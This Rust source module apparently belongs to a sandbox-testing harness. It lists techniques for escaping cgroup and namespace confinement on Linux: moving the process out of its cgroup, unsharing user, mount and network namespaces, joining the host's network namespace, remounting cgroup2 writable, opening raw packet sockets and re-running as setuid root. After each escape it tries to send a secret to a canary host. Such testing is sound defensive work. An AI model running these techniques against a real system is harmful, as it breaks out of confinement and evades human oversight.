//! Out of the cgroup, into namespaces, and up to privileges.

use std::fs::File;

use nix::errno::Errno;
use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};

use crate::datagram::SECRET;
use crate::stream::talk;
use crate::sys::{self, Attempt};
use crate::{Outcome, Scene, Technique};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("cgroup_leave", |scene| {
        write(&format!("{}/cgroup.procs", scene.text("outside")))?;
        reach(scene)
    }),
    ("cgroup_leave_root", |scene| {
        write(&format!("{}/cgroup.procs", scene.text("cgroup_root")))?;
        reach(scene)
    }),
    ("cgroup_fork_outside", |scene| {
        let outside = File::open(scene.text("outside")).map_err(|error| errno(&error))?;
        sys::fork_into(&outside).map(|()| Outcome::Done("a child outside"))
    }),
    ("cgroup_below", |scene| {
        // A cgroup of the attacker's own below its own, where it is delegated, is still the agent's.
        let below = format!("{}/below-{}", scene.text("inside"), std::process::id());
        std::fs::create_dir(&below).map_err(|error| errno(&error))?;
        write(&format!("{below}/cgroup.procs"))?;
        reach(scene)
    }),
    ("user_namespace", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER)?;
        reach(scene)
    }),
    ("user_namespace_packet", |_| {
        unshare(CloneFlags::CLONE_NEWUSER)?;
        sys::socket(libc::AF_PACKET, libc::SOCK_RAW, 0).map(|_| Outcome::Done("a packet socket on the host's network"))
    }),
    ("user_namespace_device", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER)?;
        let fd = sys::tcp(&scene.canary())?;
        sys::set(&fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, scene.text("device").as_bytes())?;
        Ok(Outcome::Done("bound to the device"))
    }),
    ("user_namespace_cgroup", user_namespace_cgroup),
    ("mount_namespace", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS)?;
        reach(scene)
    }),
    ("cgroup_namespace", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWCGROUP)?;
        reach(scene)
    }),
    ("network_namespace", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)?;
        sys::loopback_up()?;
        reach(scene)
    }),
    ("network_namespace_packet", |_| {
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)?;
        let fd = sys::socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?;
        // Its own loopback device, which is down: there is no other.
        let to = [&17u16.to_ne_bytes()[..], &[8, 0, 1, 0, 0, 0, 0, 0, 0, 6], &[0; 8]].concat();
        sys::send_to(&fd, SECRET, 0, &to)?;
        Ok(Outcome::Done("sent, to nobody"))
    }),
    ("host_network_namespace", |scene| {
        let namespace = File::open("/proc/1/ns/net").map_err(|error| errno(&error))?;
        nix::sched::setns(namespace, CloneFlags::CLONE_NEWNET)?;
        reach(scene)
    }),
    ("process_namespace", |scene| {
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWPID)?;
        // The child is number 1 of its namespace: the record must have the host's number all the same.
        let fd = sys::tcp(&scene.canary())?;
        crate::handed::bequeath(&fd, scene)
    }),
    ("setuid", |scene| again(scene, "packet")),
    ("setuid_tcp", |scene| again(scene, "tcp")),
];

fn errno(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(0))
}

/// Moves this process.
fn write(procs: &str) -> Attempt {
    std::fs::write(procs, std::process::id().to_string()).map_err(|error| errno(&error))
}

pub(crate) fn reach(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::tcp(&scene.canary())?;
    sys::limit_waiting(&fd)?;
    sys::connect(&fd, &sys::address(scene.canary(), 0))?;
    talk(&fd)
}

/// A fresh mount of the cgroup file system, writable, past a read-only one.
fn user_namespace_cgroup(scene: &Scene) -> Attempt<Outcome> {
    let (uid, gid) = (nix::unistd::getuid(), nix::unistd::getgid());
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP)?;
    let map = |file: &str, text: String| std::fs::write(file, text).map_err(|error| errno(&error));
    map("/proc/self/setgroups", "deny".to_owned())?;
    map("/proc/self/uid_map", format!("0 {uid} 1"))?;
    map("/proc/self/gid_map", format!("0 {gid} 1"))?;
    mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)?;
    let place = scene.text("mount_point");
    mount(Some("cgroup2"), place, Some("cgroup2"), MsFlags::empty(), None::<&str>)?;
    // The mount's root is where this namespace began: the attacker's own cgroup, and nothing is above it.
    write(&format!("{place}/cgroup.procs")).and_then(|()| reach(scene))
}

/// The same program with the setuid bit and root as its owner.
fn again(scene: &Scene, technique: &str) -> Attempt<Outcome> {
    let arguments = scene.arguments.iter().map(|(key, value)| format!("{key}={value}"));
    let status = std::process::Command::new(scene.text("setuid")).arg(technique).args(arguments).status();
    let status = status.map_err(|error| errno(&error))?;
    std::process::exit(status.code().unwrap_or(1));
}
